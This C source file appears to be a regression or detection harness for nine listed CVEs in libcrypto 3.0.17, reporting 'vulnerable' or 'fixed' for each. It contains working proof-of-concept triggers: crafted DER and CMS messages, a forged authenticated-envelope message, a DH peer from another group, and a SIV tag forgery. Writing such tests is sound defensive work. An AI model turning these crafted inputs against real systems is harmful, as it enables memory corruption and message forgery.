// SPDX-License-Identifier: Apache-2.0

// Shows nine vulnerabilities of libcrypto 3.0.17 in a process that goes on
// running. Each line on standard input is the number of one, each line on
// standard output says whether the libcrypto of this process has it. What would
// write or read where nothing is, is tried in a child, with an allocator that
// ends each block where no memory is.
#define _GNU_SOURCE
#include <openssl/aes.h>
#include <openssl/asn1.h>
#include <openssl/cms.h>
#include <openssl/core_names.h>
#include <openssl/dh.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/param_build.h>
#include <openssl/pem.h>
#include <openssl/pkcs7.h>
#include <openssl/x509.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#define CHECK(x) do { if (!(x)) { ERR_print_errors_fp(stderr); printf("broken: line %d: %s\n", __LINE__, #x); return; } } while (0)
#define SAY(vulnerable, how) puts((vulnerable) ? "vulnerable: " how : "fixed")

/* An allocator for children: small blocks end where no memory is. */
static int guarded;
static char *guards[2] = {(char *)-1, NULL}; /* from, to */

static void *allocate(size_t n, const char *file, int line)
{
	if (!guarded || n == 0 || n > 16)
		return malloc(n);
	char *p = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p == MAP_FAILED || mprotect(p + 4096, 4096, PROT_NONE))
		abort();
	if (p < guards[0])
		guards[0] = p;
	if (p + 8192 > guards[1])
		guards[1] = p + 8192;
	return p + 4096 - n;
}

static int is_guarded(void *p) { return guarded && (char *)p >= guards[0] && (char *)p < guards[1]; }

static void release(void *p, const char *file, int line)
{
	if (!is_guarded(p)) /* the children that guard end soon */
		free(p);
}

static void *reallocate(void *p, size_t n, const char *file, int line)
{
	if (!is_guarded(p))
		return realloc(p, n);
	char *q = allocate(n, file, line);
	size_t old = 4096 - ((size_t)p & 4095);
	memcpy(q, p, old < n ? old : n);
	return q;
}

/* in_child calls f in a child and says whether a signal ended it. */
static int in_child(int (*f)(void), int *status)
{
	fflush(stdout);
	pid_t child = fork();
	if (child == 0) {
		guarded = 1;
		_exit(f());
	}
	if (child < 0 || waitpid(child, status, 0) != child)
		abort();
	return WIFSIGNALED(*status);
}

static void ask_child(int (*f)(void), const char *how)
{
	int status;
	if (in_child(f, &status))
		printf("vulnerable: %s: signal %d\n", how, WTERMSIG(status));
	else if (WEXITSTATUS(status))
		printf("broken: %d\n", WEXITSTATUS(status));
	else
		puts("fixed");
}

static int failed_with(int lib, int reason)
{
	unsigned long e = ERR_peek_last_error();
	return ERR_GET_LIB(e) == lib && ERR_GET_REASON(e) == reason;
}

/* CVE-2026-7383: four bytes for each of 2^30 characters are none at all. */
static int widen(void)
{
	size_t n = (1u << 30) + 1;
	unsigned char *text = mmap(NULL, n, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	ASN1_STRING *out = NULL;
	if (text == MAP_FAILED)
		return 1;
	if (ASN1_mbstring_copy(&out, text, n, MBSTRING_ASC, B_ASN1_UNIVERSALSTRING) >= 0)
		return 2;
	return failed_with(ERR_LIB_ASN1, ASN1_R_STRING_TOO_LONG) ? 0 : 3;
}

static void cve_2026_7383(void) { ask_child(widen, "4 GiB were written into 5 bytes"); }

/* der puts a header in front of what stands at the end of a buffer. */
struct der {
	unsigned char bytes[512];
	size_t at;
};

static void add(struct der *d, const void *p, size_t n) { memcpy(d->bytes + (d->at -= n), p, n); }

static void head(struct der *d, unsigned char tag, size_t end)
{
	size_t n = end - d->at;
	unsigned char h[3] = {tag, n < 128 ? n : 0x81, n};
	add(d, h, n < 128 ? 2 : 3);
}

static const unsigned char data[] = {6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 1}, enveloped[] = {6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 7, 3},
			   aes_cbc[] = {6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 2}, aes_cfb[] = {6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 4},
			   pwri[] = {6, 11, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 16, 3, 9}, pbkdf2[] = {6, 9, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 5, 12},
			   iv[18] = {4, 16}, salt_and_rounds[] = {4, 8, 1, 2, 3, 4, 5, 6, 7, 8, 2, 1, 16};

/* password makes a message for who knows a password, whose encrypted key has a
 * length, and which may say nothing of how a key is made of the password. */
static CMS_ContentInfo *password(const unsigned char *cipher, size_t key, int derives)
{
	struct der d = {.at = sizeof d.bytes};
	static const unsigned char zero[64], three[] = {2, 1, 3}, null[] = {2, 1, 0};
	size_t all = d.at, end, inner;
	add(&d, zero, 16); /* the content */
	head(&d, 0x80, all);
	end = d.at;
	add(&d, iv, sizeof iv), add(&d, aes_cbc, sizeof aes_cbc), head(&d, 0x30, end);
	add(&d, data, sizeof data), head(&d, 0x30, all);
	end = inner = d.at;
	add(&d, zero, key), head(&d, 4, end);
	end = d.at;
	add(&d, iv, sizeof iv), add(&d, cipher, 11), head(&d, 0x30, end), add(&d, pwri, sizeof pwri), head(&d, 0x30, end);
	if (derives) {
		end = d.at;
		add(&d, salt_and_rounds, sizeof salt_and_rounds), head(&d, 0x30, end), add(&d, pbkdf2, sizeof pbkdf2), head(&d, 0xa0, end);
	}
	add(&d, null, 3), head(&d, 0xa3, inner), head(&d, 0x31, inner);
	add(&d, three, 3), head(&d, 0x30, all), head(&d, 0xa0, all);
	add(&d, enveloped, sizeof enveloped), head(&d, 0x30, all);
	const unsigned char *p = d.bytes + d.at;
	return d2i_CMS_ContentInfo(NULL, &p, sizeof d.bytes - d.at);
}

static int open_message(CMS_ContentInfo *c)
{
	if (c == NULL)
		return 1;
	return CMS_decrypt_set1_password(c, (unsigned char *)"password", -1) > 0 ? 2 : 0;
}

/* CVE-2026-9076: the check bytes of a wrapped key of two bytes. */
static int unwrap(void) { return open_message(password(aes_cfb, 2, 1)); }

static void cve_2026_9076(void) { ask_child(unwrap, "behind a key of 2 bytes"); }

/* CVE-2026-34180: 4 GiB and 16 bytes are 16 bytes. */
static void cve_2026_34180(void)
{
	size_t n = (1ul << 32) + 16 + 7;
	unsigned char *text = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	CHECK(text != MAP_FAILED);
	memcpy(text, (unsigned char[]){4, 0x85, 1, 0, 0, 0, 16}, 7);
	const unsigned char *p = text;
	ASN1_OCTET_STRING *s = d2i_ASN1_OCTET_STRING(NULL, &p, n);
	int vulnerable = s != NULL && ASN1_STRING_length(s) == 16;
	CHECK(vulnerable || (s == NULL && ERR_peek_error() != 0));
	SAY(vulnerable, "of 4294967312 bytes 16 are left");
	ASN1_OCTET_STRING_free(s);
	munmap(text, n);
}

/* CVE-2026-34182: a message that is said to be authenticated, by a cipher that
 * does not authenticate. */
static void cve_2026_34182(void)
{
	static const unsigned char authenticated[] = {6, 11, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 1, 9, 16, 1, 23}, zero[16], four[] = {2, 1, 4, 0x30, 5, 4, 3, 'k', 'e', 'y'},
				   ofb[] = {6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 3}, wrap[] = {0x30, 11, 6, 9, 0x60, 0x86, 0x48, 1, 0x65, 3, 4, 1, 5}, null[] = {2, 1, 0};
	struct der d = {.at = sizeof d.bytes};
	unsigned char wrapped[24], name[] = "key";
	AES_KEY kek;
	CHECK(AES_set_encrypt_key(zero, 128, &kek) == 0 && AES_wrap_key(&kek, NULL, wrapped, zero, 16) == 24);
	size_t all = d.at, end, inner;
	add(&d, zero, 16), head(&d, 4, all); /* the code that authenticates: anything */
	end = inner = d.at;
	add(&d, "forged", 6), head(&d, 0x80, end);
	end = d.at;
	add(&d, iv, sizeof iv), add(&d, ofb, sizeof ofb), head(&d, 0x30, end), add(&d, data, sizeof data), head(&d, 0x30, inner);
	end = inner = d.at;
	add(&d, wrapped, 24), head(&d, 4, end), add(&d, wrap, sizeof wrap), add(&d, four, sizeof four), head(&d, 0xa2, inner), head(&d, 0x31, inner);
	add(&d, null, 3), head(&d, 0x30, all), head(&d, 0xa0, all), add(&d, authenticated, sizeof authenticated), head(&d, 0x30, all);
	const unsigned char *p = d.bytes + d.at;
	CMS_ContentInfo *c = d2i_CMS_ContentInfo(NULL, &p, sizeof d.bytes - d.at);
	BIO *out = BIO_new(BIO_s_mem());
	CHECK(c != NULL && out != NULL);
	CHECK(CMS_decrypt_set1_key(c, (unsigned char *)zero, 16, name, 3) > 0);
	int vulnerable = CMS_decrypt(c, NULL, NULL, NULL, out, 0) > 0;
	CHECK(vulnerable || failed_with(ERR_LIB_CMS, CMS_R_UNSUPPORTED_CONTENT_ENCRYPTION_ALGORITHM));
	SAY(vulnerable, "a text that nobody has authenticated");
	BIO_free(out);
	CMS_ContentInfo_free(c);
}

/* CVE-2026-42766: nothing is said of how the key is made of the password. */
static int no_derivation(void) { return open_message(password(aes_cbc, 32, 0)); }

static void cve_2026_42766(void) { ask_child(no_derivation, "a message without a derivation"); }

/* CVE-2026-42770: the other's group may be another. */
static EVP_PKEY *dhx(int twice, int private)
{
	EVP_PKEY *named = NULL, *key = NULL;
	EVP_PKEY_CTX *c = EVP_PKEY_CTX_new_from_name(NULL, "DHX", NULL);
	BIGNUM *p = NULL, *q = NULL, *g = NULL, *x = BN_new(), *y = BN_new();
	BN_CTX *b = BN_CTX_new();
	OSSL_PARAM group[] = {OSSL_PARAM_utf8_string(OSSL_PKEY_PARAM_GROUP_NAME, "dh_2048_256", 0), OSSL_PARAM_END}, *params;
	OSSL_PARAM_BLD *builder = OSSL_PARAM_BLD_new();
	if (EVP_PKEY_paramgen_init(c) <= 0 || EVP_PKEY_CTX_set_params(c, group) <= 0 || EVP_PKEY_paramgen(c, &named) <= 0)
		return NULL;
	EVP_PKEY_get_bn_param(named, OSSL_PKEY_PARAM_FFC_P, &p);
	EVP_PKEY_get_bn_param(named, OSSL_PKEY_PARAM_FFC_Q, &q);
	EVP_PKEY_get_bn_param(named, OSSL_PKEY_PARAM_FFC_G, &g);
	BN_set_word(x, 1234567);
	BN_mod_exp(y, g, x, p, b);
	if (twice) /* g, and so y, has it as an order too */
		BN_lshift1(q, q);
	OSSL_PARAM_BLD_push_BN(builder, OSSL_PKEY_PARAM_FFC_P, p);
	OSSL_PARAM_BLD_push_BN(builder, OSSL_PKEY_PARAM_FFC_Q, q);
	OSSL_PARAM_BLD_push_BN(builder, OSSL_PKEY_PARAM_FFC_G, g);
	OSSL_PARAM_BLD_push_BN(builder, OSSL_PKEY_PARAM_PUB_KEY, y);
	if (private)
		OSSL_PARAM_BLD_push_BN(builder, OSSL_PKEY_PARAM_PRIV_KEY, x);
	params = OSSL_PARAM_BLD_to_param(builder);
	EVP_PKEY_CTX_free(c);
	c = EVP_PKEY_CTX_new_from_name(NULL, "DHX", NULL);
	if (EVP_PKEY_fromdata_init(c) <= 0 || EVP_PKEY_fromdata(c, &key, private ? EVP_PKEY_KEYPAIR : EVP_PKEY_PUBLIC_KEY, params) <= 0)
		key = NULL;
	EVP_PKEY_CTX_free(c);
	OSSL_PARAM_free(params);
	OSSL_PARAM_BLD_free(builder);
	EVP_PKEY_free(named);
	BN_free(p), BN_free(q), BN_free(g), BN_free(x), BN_free(y);
	BN_CTX_free(b);
	return key;
}

static void cve_2026_42770(void)
{
	EVP_PKEY *mine = dhx(0, 1), *same = dhx(0, 0), *other = dhx(1, 0);
	CHECK(mine != NULL && same != NULL && other != NULL);
	EVP_PKEY_CTX *c = EVP_PKEY_CTX_new(mine, NULL);
	CHECK(EVP_PKEY_derive_init(c) > 0);
	CHECK(EVP_PKEY_derive_set_peer(c, same) > 0);
	SAY(EVP_PKEY_derive_set_peer(c, other) > 0, "a peer of another group");
	EVP_PKEY_CTX_free(c);
	EVP_PKEY_free(mine), EVP_PKEY_free(same), EVP_PKEY_free(other);
}

/* CVE-2026-45445: the nonce makes no difference. */
static int encrypt(unsigned char nonce, unsigned char *out)
{
	unsigned char key[16] = "sixteen byte key", n[12] = {nonce}, text[16] = "attack at dawn!";
	EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new();
	int ok = c && EVP_EncryptInit_ex(c, EVP_aes_128_ocb(), NULL, key, n) > 0 && EVP_Cipher(c, out, text, sizeof text) > 0;
	EVP_CIPHER_CTX_free(c);
	return ok;
}

static void cve_2026_45445(void)
{
	unsigned char a[64] = {0}, b[64] = {0};
	CHECK(encrypt(1, a) && encrypt(2, b));
	SAY(memcmp(a, b, 16) == 0, "two nonces, one ciphertext");
}

/* CVE-2026-45446: after a message that was right, an empty one is too. */
static void cve_2026_45446(void)
{
	unsigned char key[32] = {7}, text[9] = "payload!", sealed[9], tag[16], out[16], none[16] = {0};
	int n;
	EVP_CIPHER *siv = EVP_CIPHER_fetch(NULL, "AES-128-SIV", NULL);
	EVP_CIPHER_CTX *e = EVP_CIPHER_CTX_new(), *d = EVP_CIPHER_CTX_new();
	CHECK(siv != NULL && e != NULL && d != NULL);
	CHECK(EVP_EncryptInit_ex2(e, siv, key, NULL, NULL) && EVP_EncryptUpdate(e, NULL, &n, (unsigned char *)"one", 3));
	CHECK(EVP_EncryptUpdate(e, sealed, &n, text, sizeof text) && EVP_EncryptFinal_ex(e, out, &n));
	CHECK(EVP_CIPHER_CTX_ctrl(e, EVP_CTRL_AEAD_GET_TAG, 16, tag) > 0);
	CHECK(EVP_DecryptInit_ex2(d, siv, key, NULL, NULL) && EVP_CIPHER_CTX_ctrl(d, EVP_CTRL_AEAD_SET_TAG, 16, tag) > 0);
	CHECK(EVP_DecryptUpdate(d, NULL, &n, (unsigned char *)"one", 3) && EVP_DecryptUpdate(d, out, &n, sealed, sizeof sealed));
	CHECK(EVP_DecryptFinal_ex(d, out, &n) > 0);
	CHECK(EVP_DecryptInit_ex2(d, NULL, NULL, NULL, NULL) && EVP_CIPHER_CTX_ctrl(d, EVP_CTRL_AEAD_SET_TAG, 16, none) > 0);
	CHECK(EVP_DecryptUpdate(d, NULL, &n, (unsigned char *)"forged", 6));
	SAY(EVP_DecryptFinal_ex(d, out, &n) > 0, "a forged message with a tag of zeros");
	EVP_CIPHER_CTX_free(e), EVP_CIPHER_CTX_free(d);
	EVP_CIPHER_free(siv);
}

/* CVE-2026-45447: the caller's BIO is freed. Its own method tells. */
static int freed;

static int read_nothing(BIO *b, char *p, int n) { return 0; }

static long control(BIO *b, int c, long n, void *p) { return c == BIO_CTRL_FLUSH || c == BIO_CTRL_EOF; }

static int destroyed(BIO *b)
{
	freed++;
	return 1;
}

static void cve_2026_45447(void)
{
	EVP_PKEY *key = EVP_EC_gen("P-256");
	X509 *cert = X509_new();
	BIO *text = BIO_new_mem_buf("text", 4);
	BIO_METHOD *method = BIO_meth_new(BIO_get_new_index() | BIO_TYPE_SOURCE_SINK, "watched");
	CHECK(key != NULL && cert != NULL && text != NULL && method != NULL);
	ASN1_INTEGER_set(X509_get_serialNumber(cert), 1);
	X509_gmtime_adj(X509_getm_notBefore(cert), 0);
	X509_gmtime_adj(X509_getm_notAfter(cert), 3600);
	X509_NAME_add_entry_by_txt(X509_get_subject_name(cert), "CN", MBSTRING_ASC, (unsigned char *)"someone", -1, -1, 0);
	X509_set_issuer_name(cert, X509_get_subject_name(cert));
	CHECK(X509_set_pubkey(cert, key) && X509_sign(cert, key, EVP_sha256()));
	PKCS7 *p = PKCS7_sign(cert, key, NULL, text, PKCS7_DETACHED | PKCS7_BINARY);
	CHECK(p != NULL);
	while (sk_X509_ALGOR_num(p->d.sign->md_algs) > 0)
		X509_ALGOR_free(sk_X509_ALGOR_pop(p->d.sign->md_algs));
	BIO_meth_set_read(method, read_nothing);
	BIO_meth_set_ctrl(method, control);
	BIO_meth_set_destroy(method, destroyed);
	BIO *mine = BIO_new(method);
	BIO_set_init(mine, 1);
	freed = 0;
	CHECK(PKCS7_verify(p, NULL, NULL, mine, NULL, PKCS7_NOVERIFY) <= 0);
	SAY(freed != 0, "the BIO of the caller was freed");
	if (!freed)
		BIO_free(mine);
	BIO_free(text);
	BIO_meth_free(method);
	PKCS7_free(p);
	X509_free(cert);
	EVP_PKEY_free(key);
}

int main(void)
{
	static const struct { const char *name; void (*show)(void); } all[] = {
		{"CVE-2026-7383", cve_2026_7383}, {"CVE-2026-9076", cve_2026_9076}, {"CVE-2026-34180", cve_2026_34180},
		{"CVE-2026-34182", cve_2026_34182}, {"CVE-2026-42766", cve_2026_42766}, {"CVE-2026-42770", cve_2026_42770},
		{"CVE-2026-45445", cve_2026_45445}, {"CVE-2026-45446", cve_2026_45446}, {"CVE-2026-45447", cve_2026_45447},
	};
	char line[64];
	if (!CRYPTO_set_mem_functions(allocate, reallocate, release))
		return 1;
	while (fgets(line, sizeof line, stdin)) {
		line[strcspn(line, "\n")] = 0;
		for (size_t i = 0; i < sizeof all / sizeof *all; i++)
			if (!strcmp(line, all[i].name)) {
				ERR_clear_error();
				all[i].show();
			}
		fflush(stdout);
	}
	return 0;
}
